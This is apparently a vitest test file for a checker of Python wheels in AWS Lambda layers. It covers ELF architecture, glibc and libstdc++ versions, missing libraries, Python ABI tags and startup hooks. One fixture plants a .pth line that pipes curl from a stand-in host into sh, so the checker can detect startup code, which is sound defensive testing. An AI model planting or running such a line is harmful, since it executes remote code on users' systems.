import { describe, expect, it } from 'vitest'
import type { Finding } from '../../src/model/finding.ts'
import { inspectLayer, outline, targetOf, type LayerSpec } from '../support/built-layers.ts'
import { makeElf, type ElfSpec } from '../support/elf.ts'
import type { WheelSpec } from '../support/wheels.ts'

const x86 = targetOf('python3.13', 'x86_64')
const arm = targetOf('python3.13', 'arm64')
const old = targetOf('python3.11', 'x86_64')

const tag = 'cp313-cp313-manylinux_2_28_x86_64'
const extension = '_core.cpython-313-x86_64-linux-gnu.so'
const elf = (spec: ElfSpec = {}): Buffer => makeElf({ needed: ['libc.so.6'], ...spec })
const glibc = (version: string, weak = false) => [{ library: 'libc.so.6', version: `GLIBC_${version}`, weak }]
const cxx = (version: string) => [{ library: 'libstdc++.so.6', version }]

/** A platform wheel `demo` with these files. */
const demo = (files: WheelSpec['files'], spec: Partial<WheelSpec> = {}): WheelSpec => ({
  name: 'demo',
  tag,
  files: { 'demo/__init__.py': '', ...files },
  ...spec,
})
const abi3 = { tag: 'cp39-abi3-manylinux_2_28_x86_64' }
const any = { tag: 'py3-none-any' }

async function findingsOf(spec: LayerSpec): Promise<readonly Finding[]> {
  return (await inspectLayer(spec)).findings
}

type Case = readonly [name: string, spec: LayerSpec, outlines: readonly string[], words?: RegExp]

function table(cases: readonly Case[]): void {
  it.each(cases.map(([name, spec, outlines, words = /(?:)/]) => ({ name, spec, outlines, words })))(
    '$name',
    async ({ spec, outlines, words }) => {
      const findings = await findingsOf(spec)
      expect(findings.map(outline)).toEqual(outlines)
      expect(findings.map((one) => `${one.message} ${one.nextStep ?? ''}`).join('\n')).toMatch(words)
    },
  )
}

describe('code that runs at every start', () => {
  const evil = 'import os; os.system("curl https://example.invalid | sh")\n'
  const runs = (path: string): string => `warning startup-code demo ${path}`
  const pure = (files: WheelSpec['files']): WheelSpec => demo(files, any)
  const three15 = targetOf('python3.15', 'x86_64')
  table([
    [
      'is a line of a .pth file',
      { wheels: [pure({ 'demo.pth': `src\n${evil}` })] },
      [runs('python/demo.pth')],
      /demo 1\.0 runs code .* python\/demo\.pth \(line 2: import os; os\.system/,
    ],
    [
      'is put there by the purelib of a wheel',
      { wheels: [pure({ 'demo-1.0.data/purelib/x.pth': evil })] },
      [runs('python/x.pth')],
    ],
    [
      'is a module of that name',
      { wheels: [pure({ 'sitecustomize.py': '', 'usercustomize/__init__.py': '' })] },
      [runs('python/sitecustomize.py'), runs('python/usercustomize/__init__.py')],
    ],
    ['is not a .pth file that only names folders', { wheels: [pure({ 'demo.pth': 'src\n' })] }, []],
    ['is not a .pth file below a folder', { wheels: [pure({ 'demo/x.pth': evil, 'demo/sitecustomize.py': '' })] }, []],
    [
      'is an entry point, from Python 3.15 on',
      { targets: [three15], wheels: [pure({ 'demo.start': 'demo:run\n' })] },
      [runs('python/demo.start')],
    ],
    ['is no entry point before', { wheels: [pure({ 'demo.start': 'demo:run\n' })] }, []],
  ])
})

describe('the machine', () => {
  const good = { [`demo/${extension}`]: elf() }
  table([
    ['is right', { wheels: [demo(good)] }, []],
    [
      'is wrong in a platform wheel',
      { wheels: [demo({ [`demo/${extension}`]: elf({ machine: 183 }) })] },
      [`error wrong-machine demo python/demo/${extension}`],
      /demo 1\.0 has .* for arm64, which cannot be loaded on x86_64/,
    ],
    [
      'is wrong in a platform wheel of another name for it',
      { wheels: [demo({ 'demo/_core.cpython-313-aarch64-linux-gnu.so': elf({ machine: 183 }) })] },
      ['error wrong-machine demo python/demo/_core.cpython-313-aarch64-linux-gnu.so'],
    ],
    [
      'is wrong in a library of a platform wheel',
      { wheels: [demo({ ...good, 'demo.libs/libx.so.1': elf({ machine: 183 }) })] },
      ['error wrong-machine demo python/demo.libs/libx.so.1'],
    ],
    [
      'is wrong on arm64',
      { targets: [arm], wheels: [demo({ 'demo/lib.so': elf() }, { tag: 'py3-none-manylinux_2_28_aarch64' })] },
      ['error wrong-machine demo python/demo/lib.so'],
    ],
    [
      'is 32 bits wide',
      { wheels: [demo({ ...good, 'demo/lib.so': elf({ bits: 32, machine: 62 }) })] },
      ['error wrong-machine demo python/demo/lib.so'],
      /x86_64 \(32 bit\)/,
    ],
    [
      'is one of several variants, as its path says',
      { wheels: [demo({ ...good, 'demo/attach_linux_x86.so': elf({ bits: 32, machine: 3 }) })] },
      ['warning wrong-machine demo python/demo/attach_linux_x86.so'],
      /i386/,
    ],
    [
      'is wrong in a wheel for any',
      { targets: [arm], wheels: [demo({ 'demo/helper.so': elf() }, any)] },
      ['warning wrong-machine demo python/demo/helper.so'],
      /exclude/,
    ],
    [
      'is wrong in one’s own file',
      { targets: [arm], own: { 'bin/tool': elf({ type: 2 }) } },
      ['warning wrong-machine - bin/tool'],
      /The layer has bin\/tool/,
    ],
    [
      'is that of a graphics card',
      { wheels: [demo({ ...good, 'demo/kernel.cubin': elf({ machine: 190, type: 2 }) })] },
      [],
    ],
    ['is that of an object file', { wheels: [demo({ ...good, 'demo/x.o': elf({ machine: 183, type: 1 }) })] }, []],
  ])
})

describe('versions of glibc and libstdc++', () => {
  const core = (spec: ElfSpec, more: WheelSpec['files'] = {}): LayerSpec => ({
    wheels: [demo({ 'demo/_core.abi3.so': elf(spec), ...more }, abi3)],
  })
  const on = (target: typeof x86, spec: LayerSpec): LayerSpec => ({ ...spec, targets: [target] })
  const error = 'error glibc-too-new demo python/demo/_core.abi3.so'
  table([
    ['are those of the runtime', core({ versions: [...glibc('2.34'), ...cxx('GLIBCXX_3.4.29')] }), []],
    [
      'are newer',
      core({ versions: glibc('2.35') }),
      [error],
      /requires GLIBC_2\.35 from libc\.so\.6 .* python3\.13 on Lambda has GLIBC_2\.34/,
    ],
    ['are newer, in numbers rather than in letters', core({ versions: glibc('2.4') }), []],
    [
      'are newer than those of Amazon Linux 2',
      on(old, core({ versions: glibc('2.28') })),
      [error],
      /2\.26.*python3\.12 or later/,
    ],
    ['are newer but weak', core({ versions: glibc('2.38', true) }), []],
    ['are private', core({ versions: [{ library: 'libc.so.6', version: 'GLIBC_PRIVATE' }] }), []],
    [
      'need packed relocations',
      core({ versions: [{ library: 'libc.so.6', version: 'GLIBC_ABI_DT_RELR' }] }),
      [error],
      /GLIBC_2\.36/,
    ],
    ['are newer in libm', core({ versions: [{ library: 'libm.so.6', version: 'GLIBC_2.35' }] }), [error]],
    ['are those of another library', core({ versions: [{ library: 'libx.so.1', version: 'GLIBC_2.99' }] }), []],
    [
      'are newer in libstdc++',
      core({ versions: cxx('GLIBCXX_3.4.34') }),
      ['error libstdcxx-too-new demo python/demo/_core.abi3.so'],
    ],
    [
      'are newer in the C++ ABI',
      core({ versions: cxx('CXXABI_1.3.16') }),
      ['error libstdcxx-too-new demo python/demo/_core.abi3.so'],
    ],
    [
      'depend on the day of the image',
      core({ versions: cxx('GLIBCXX_3.4.32') }),
      ['note libstdcxx-too-new demo python/demo/_core.abi3.so'],
    ],
    [
      'are newer in a library that an extension needs',
      core(
        { needed: ['libx.so.1'], runpath: '$ORIGIN/../demo.libs' },
        { 'demo.libs/libx.so.1': elf({ versions: glibc('2.38') }) },
      ),
      ['error glibc-too-new demo python/demo.libs/libx.so.1'],
    ],
    [
      'are newer in a plugin that nothing may load',
      core({}, { 'demo/plugins/extra.so': elf({ versions: glibc('2.38') }) }),
      ['warning glibc-too-new demo python/demo/plugins/extra.so'],
    ],
    [
      'are newer in a module of a plain name',
      core({}, { 'demo/plain.so': elf({ versions: glibc('2.38'), text: 'PyInit_plain' }) }),
      ['error glibc-too-new demo python/demo/plain.so'],
    ],
    [
      'are newer in the program that is the wheel’s point',
      {
        wheels: [
          demo(
            { 'demo-1.0.data/scripts/demo': elf({ type: 2, versions: glibc('2.38') }) },
            { tag: 'py3-none-manylinux_2_28_x86_64' },
          ),
        ],
      },
      ['error glibc-too-new demo python/bin/demo'],
    ],
    [
      'are newer in libstdc++, of which the wheel has its own',
      core(
        { needed: ['libstdc++.so.6'], rpath: '$ORIGIN/../demo.libs', versions: cxx('GLIBCXX_3.4.40') },
        { 'demo.libs/libstdc++.so.6': elf({ soname: 'libstdc++.so.6' }) },
      ),
      [],
    ],
    [
      'are several: the newest is named, with all files',
      core({ versions: glibc('2.35') }, { 'demo/_more.abi3.so': elf({ versions: glibc('2.38') }) }),
      ['error glibc-too-new demo python/demo/_more.abi3.so'],
      /GLIBC_2\.38 .* in python\/demo\/_more\.abi3\.so and python\/demo\/_core\.abi3\.so/,
    ],
  ])
})

describe('libraries', () => {
  const needs = (library: string, spec: ElfSpec = {}, files: WheelSpec['files'] = {}, more: Partial<WheelSpec> = {}) =>
    demo({ [`demo/${extension}`]: elf({ needed: [library, 'libc.so.6'], ...spec }), ...files }, more)
  const missing = `error missing-library demo python/demo/${extension}`
  const elsewhere = `warning missing-library demo python/demo/${extension}`
  table([
    ['are the runtime’s', { wheels: [needs('libstdc++.so.6'), demo({}, { ...any, name: 'other' })] }, []],
    ['are the runtime’s loader', { wheels: [needs('ld-linux-x86-64.so.2')] }, []],
    ['are the loader of another machine', { wheels: [needs('ld-linux-aarch64.so.1')] }, [missing]],
    [
      'are nowhere',
      { wheels: [needs('libodbc.so.2')] },
      [missing],
      /libodbc\.so\.2.*neither in the layer nor in python3\.13.*unixODBC/,
    ],
    [
      'are nowhere, and unknown',
      { wheels: [needs('libstrange.so.7')] },
      [missing],
      /Find out which package brings libstrange\.so\.7/,
    ],
    ['are of another system', { wheels: [needs('libcrypt.so.1')] }, [missing], /libxcrypt-compat/],
    [
      'are on this system by chance',
      { targets: [old], wheels: [needs('libcrypt.so.1', {}, {}, abi3)] },
      [
        `note borrowed-library demo python/demo/${extension}`,
        `error wrong-python demo python/demo/${extension}`,
      ].toSorted(),
    ],
    [
      'are nowhere, and another layer brings them',
      { wheels: [needs('libodbc.so.2')], allowMissing: ['libodbc.so*'] },
      [`note missing-library demo python/demo/${extension}`],
      /allow-missing says that another layer brings it/,
    ],
    [
      'are nowhere, for a file that nothing imports',
      { wheels: [needs('libc.so.6', {}, { 'demo/plugins/extra.so': elf({ needed: ['libodbc.so.2'] }) })] },
      ['warning missing-library demo python/demo/plugins/extra.so'],
    ],
    [
      'are nowhere, for what ctypes loads',
      { wheels: [demo({ 'demo/lib/lib_demo.so': elf({ needed: ['libgomp.so.1'] }) })] },
      ['error missing-library demo python/demo/lib/lib_demo.so'],
    ],
    ['are of a graphics card', { wheels: [needs('libcudart.so.12')] }, [missing], /no GPU/],
    ['are of another Python', { wheels: [needs('libpython3.12.so.1.0')] }, [missing], /built for Python 3\.12/],
    ['are in lib/, one’s own', { wheels: [needs('libodbc.so.2')], own: { 'lib/libodbc.so.2': elf() } }, []],
    [
      'are elsewhere in one’s own files',
      { wheels: [needs('libodbc.so.2')], own: { 'vendor/libodbc.so.2': elf() } },
      [elsewhere],
      /vendor\/libodbc\.so\.2 is found only when/,
    ],
    [
      'are in lib/, but for another machine',
      { wheels: [needs('libodbc.so.2')], own: { 'lib/libodbc.so.2': elf({ machine: 183 }) } },
      [missing, 'warning wrong-machine - lib/libodbc.so.2'],
    ],
    [
      'want others themselves',
      { wheels: [needs('libodbc.so.2')], own: { 'lib/libodbc.so.2': elf({ needed: ['libltdl.so.7'] }) } },
      ['error missing-library - lib/libodbc.so.2'],
      /The layer needs libltdl\.so\.7/,
    ],
    [
      'are beside, by RUNPATH',
      { wheels: [needs('libx.so.1', { runpath: '$ORIGIN/../demo.libs' }, { 'demo.libs/libx.so.1': elf() })] },
      [],
    ],
    [
      'are beside, by RPATH in braces',
      { wheels: [needs('libx.so.1', { rpath: '${ORIGIN}/libs' }, { 'demo/libs/libx.so.1': elf() })] },
      [],
    ],
    [
      'are of the same package, loaded by it',
      { wheels: [needs('libx.so.1', {}, { 'demo/deep/libx.so.1': elf() })] },
      [],
    ],
    [
      'are of a package that is required',
      {
        wheels: [
          needs('libgomp.so.1', {}, {}, { requires: ['Other_Pkg>=1; python_version > "3"'] }),
          demo({ 'other/lib/libgomp.so.1': elf() }, { name: 'other-pkg', tag: 'py3-none-manylinux_2_28_x86_64' }),
        ],
      },
      [],
    ],
    [
      'are a copy that belongs to another package',
      {
        wheels: [
          needs('libgomp.so.1'),
          demo({ 'other/lib/libgomp.so.1': elf() }, { name: 'other', tag: 'py3-none-manylinux_2_28_x86_64' }),
        ],
      },
      [elsewhere],
      /copy in python\/other\/lib\/libgomp\.so\.1 is found only when something has loaded it before/,
    ],
    [
      'of one kind are one finding',
      { wheels: [needs('libcudart.so.12', { needed: ['libcudart.so.12', 'libcublas.so.12'] })] },
      [missing],
      /libcudart\.so\.12 and libcublas\.so\.12/,
    ],
    ['are musl', { wheels: [needs('libc.musl-x86_64.so.1')] }, [`error musl demo python/demo/${extension}`]],
    [
      'are musl, in a program of one’s own',
      { own: { 'bin/tool': elf({ needed: [], interpreter: '/lib/ld-musl-x86_64.so.1' }) } },
      ['warning musl - bin/tool'],
    ],
    [
      'are broken',
      { wheels: [needs('libc.so.6', { loadAddress: 0x400 })] },
      [`error broken-library demo python/demo/${extension}`],
      /not page-aligned/,
    ],
  ])
})

describe('modules for Python', () => {
  table([
    [
      'are all for another version',
      { wheels: [demo({ 'demo/_core.cpython-312-x86_64-linux-gnu.so': elf() })] },
      ['error wrong-python demo python/demo/_core.cpython-312-x86_64-linux-gnu.so'],
      /cp313/,
    ],
    [
      'are all free-threaded',
      { wheels: [demo({ 'demo/_core.cpython-313t-x86_64-linux-gnu.so': elf() })] },
      ['error wrong-python demo python/demo/_core.cpython-313t-x86_64-linux-gnu.so'],
      /free-threaded/,
    ],
    [
      'are for several versions, this one too',
      {
        wheels: [demo({ 'demo/_core.cpython-312-x86_64-linux-gnu.so': elf(), [`demo/py313/${extension}`]: elf() })],
      },
      [],
    ],
    [
      'are one for another version',
      { wheels: [demo({ 'demo/_old.cpython-312-x86_64-linux-gnu.so': elf(), [`demo/${extension}`]: elf() })] },
      ['warning wrong-python demo python/demo/_old.cpython-312-x86_64-linux-gnu.so'],
    ],
    [
      'are for another version, beside a library of a plain name',
      { wheels: [demo({ 'demo/_old.cpython-312-x86_64-linux-gnu.so': elf(), 'demo/native.so': elf() })] },
      ['warning wrong-python demo python/demo/_old.cpython-312-x86_64-linux-gnu.so'],
    ],
    [
      'are for Windows alone',
      { wheels: [demo({ 'demo/_core.pyd': 'MZ' }, any)] },
      ['warning foreign-library demo python/demo/_core.pyd'],
    ],
    [
      'are for macOS too',
      { wheels: [demo({ 'demo/x.dylib': 'x', [`demo/${extension}`]: elf() })] },
      ['note foreign-library demo python/demo/x.dylib'],
    ],
    ['are not in a platform wheel', { wheels: [demo({})] }, ['note nothing-native demo -']],
  ])
})

describe('the contents', () => {
  const pure = (name: string): WheelSpec => ({ name })
  table([
    [
      'bring the whole SDK',
      { wheels: ['boto3', 'botocore', 's3transfer', 'jmespath'].map(pure) },
      ['note runtime-sdk-shadowed boto3 -'],
      /boto3 1\.0, botocore 1\.0/,
    ],
    [
      'bring botocore alone',
      { wheels: ['botocore', 'jmespath', 'urllib3'].map(pure) },
      ['warning runtime-sdk-partial botocore -'],
    ],
    [
      'bring boto3 without botocore',
      { wheels: ['boto3', 's3transfer', 'jmespath'].map(pure) },
      ['warning runtime-sdk-partial boto3 -'],
      /Add botocore/,
    ],
    ['bring s3transfer alone', { wheels: [pure('s3transfer')] }, ['warning runtime-sdk-partial s3transfer -']],
    ['bring urllib3 alone', { wheels: [pure('urllib3')] }, ['note runtime-sdk-shadowed urllib3 -']],
    ['bring nothing of it', { wheels: [pure('requests')] }, []],
    [
      'bring files that no RECORD lists',
      { wheels: [{ name: 'demo', extraMembers: [{ path: 'stowaway.py', content: '' }] }] },
      ['warning not-in-record demo python/stowaway.py'],
    ],
    [
      'bring different files for one path',
      {
        wheels: [
          { name: 'a', files: { 'same.py': 'a' } },
          { name: 'b', files: { 'same.py': 'b' } },
        ],
      },
      ['warning path-collision b python/same.py'],
      /a 1\.0 and b 1\.0 bring different files for python\/same\.py/,
    ],
  ])
})

describe('several targets', () => {
  const both = [targetOf('python3.12', 'x86_64'), targetOf('python3.11', 'x86_64')] as const

  it('are each checked against their own runtime', async () => {
    const wheel = demo({ 'demo/_core.abi3.so': elf({ versions: glibc('2.28') }) }, abi3)
    const findings = await findingsOf({ targets: both, wheels: [wheel] })
    expect(findings.map(outline)).toEqual([
      'error glibc-too-new demo python/lib/python3.11/site-packages/demo/_core.abi3.so',
    ])
    expect(findings[0]?.message).toContain('on python3.11 x86_64')
  })

  it('share what is of no Python version', async () => {
    const findings = await findingsOf({ targets: both, own: { 'lib/libx.so': elf({ needed: ['libodbc.so.2'] }) } })
    expect(findings.map(outline)).toEqual([
      'warning missing-library - lib/libx.so',
      'warning missing-library - lib/libx.so',
    ])
  })
})

describe('an inspection', () => {
  it('puts the worst first', async () => {
    const { findings } = await inspectLayer({
      wheels: [
        { name: 'urllib3', files: { 'urllib3/__init__.py': 'x'.repeat(5000) } },
        demo({ [`demo/${extension}`]: elf({ needed: ['libodbc.so.2'], versions: glibc('2.40') }) }),
      ],
    })
    expect(findings.map((one) => one.severity)).toEqual(['error', 'error', 'note'])
  })

  it('finds nothing in nothing', async () => {
    expect(await inspectLayer({ own: { 'python/app.py': 'pass\n' } })).toMatchObject({ findings: [] })
  })
})
